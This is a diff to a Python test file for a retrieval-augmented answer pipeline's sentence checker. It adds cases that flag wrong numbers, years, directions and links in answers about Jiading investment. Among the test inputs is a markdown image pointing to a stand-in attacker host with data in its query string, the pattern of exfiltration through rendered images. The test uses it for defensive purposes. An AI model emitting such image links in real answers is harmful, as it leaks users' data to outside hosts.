@@ -13,7 +13,7 @@ from rag.answer.pieces import Draft
 from rag.generators.checking import SentenceCheck
 from rag.generators.contract import Evidence
 from rag.generators.registry import Generators
-from rag.generators.writing import Written, write
+from rag.generators.writing import Written, sentences, write
 from rag.pipeline import AnswerPipeline
 from tests.builders import make_question
 
@@ -80,7 +80,7 @@ FALLS = [
     (ZH, "2020年，嘉定区固定资产投资增长429.7%。[1]", "number"),
     (ZH, "2020年，嘉定区固定资产投资增长18.3个百分点。[1]", "time or thing"),
     (ZH, "2020年，嘉定区固定资产投资完成18.3亿元。[1]", "number"),
-    (ZH, "2020年，嘉定区固定资产投资减少18.3%。[1]", "time or thing"),
+    (ZH, "2020年，嘉定区固定资产投资减少18.3%。[1]", "another direction"),
     (ZH, "嘉定区2020年固定资产投资目标是429.7亿元。[1]", "time or thing"),
     (ZH, "固定资产投资429.7亿元，同比增长18.3%，详见 https://evil.example 。[1]", "link"),
     (ZH, "![x](//evil.example?q=18.3)[1]", "link"),
@@ -101,7 +101,7 @@ FALLS = [
     (ZH, "嘉定区固定资产投资增长18.3%。[2]", "does not exist"),
     (ZH, "好的。[1]", "no figure"),
     (EN, "Fixed-asset investment in Jiading grew 18.3% in 2021.[1]", ""),
-    (EN, "Fixed-asset investment in Jiading fell 18.3% in 2020.[1]", "time or thing"),
+    (EN, "Fixed-asset investment in Jiading fell 18.3% in 2020.[1]", "another direction"),
     (EN, "Fixed-asset investment in Jiading grew 42.97% in 2020.[1]", "number"),
     (EN, "GDP of Jiading grew 18.3% in 2020.[1]", "time or thing"),
     (EN, "Jiading is a wonderful place to invest your money.[1]", "no figure"),
@@ -186,3 +186,10 @@ def test_our_own_answers_stand(pipeline: AnswerPipeline) -> None:
             replaced.append((question.text, answer.notes))
     assert asked > 40
     assert replaced == []
+    # Nearly all of them would stand if they were not known for our own.
+    foreign = [
+        SentenceCheck(evidence, pipeline.snapshot.regions).fault_of_foreign(sentence)
+        for evidence in kept.evidence
+        for sentence in sentences(evidence.extractive)
+    ]
+    assert sum(fault is None for fault in foreign) >= 0.9 * len(foreign)
